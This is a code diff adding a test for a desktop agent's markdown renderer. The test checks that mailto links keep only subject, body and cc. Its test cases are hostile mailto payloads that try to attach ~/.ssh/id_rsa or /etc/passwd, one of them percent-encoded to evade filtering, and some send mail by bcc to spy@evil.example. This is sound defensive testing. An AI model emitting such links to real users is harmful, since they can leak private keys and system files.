@@ -3,6 +3,7 @@ can break out of a link, and hovering a link shows where it really goes."""
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 from PySide6.QtCore import QPoint, QUrl
@@ -172,3 +173,27 @@ def test_hovering_a_link_shows_its_real_target_in_the_status_bar(gui: Gui) -> No
         assert window.status.currentMessage() == ""
     finally:
         gui.run(window.shutdown())
+
+
+def test_mail_links_keep_only_subject_body_and_cc(qtbot: Any) -> None:
+    """`mailto:x@y?attach=/home/u/.ssh/id_rsa` came through whole: some mail clients
+    attach the file (issue 12 review). A mail link keeps only subject, body and cc."""
+    from desktop_agent.gui.theme import Theme
+    from desktop_agent.gui.transcript.markdown import MarkdownRenderer
+
+    renderer = MarkdownRenderer(Theme.from_palette().markdown_colors(), lambda code: "")
+    cases = {
+        "[a](mailto:x@y.org?attach=/home/u/.ssh/id_rsa&subject=hi)": "mailto:x@y.org?subject=hi",
+        "<mailto:x@y.org?Attachment=%2Fetc%2Fpasswd>": "mailto:x@y.org",
+        "[a](mailto:x@y.org?%61ttach=/etc/passwd&body=see%20you&bcc=spy@evil.example)": (
+            "mailto:x@y.org?body=see%20you"
+        ),
+        "[a](MAILTO:x@y.org?cc=boss@y.org&to=spy@evil.example#frag)": (
+            "MAILTO:x@y.org?cc=boss@y.org"
+        ),
+        "[a](mailto:x@y.org)": "mailto:x@y.org",
+        "[a](https://example.org/?attach=ok)": "https://example.org/?attach=ok",
+    }
+    for markdown, href in cases.items():
+        rendered = renderer.render(markdown)
+        assert re.findall(r'href="([^"]*)"', rendered) == [href.replace("&", "&amp;")], markdown
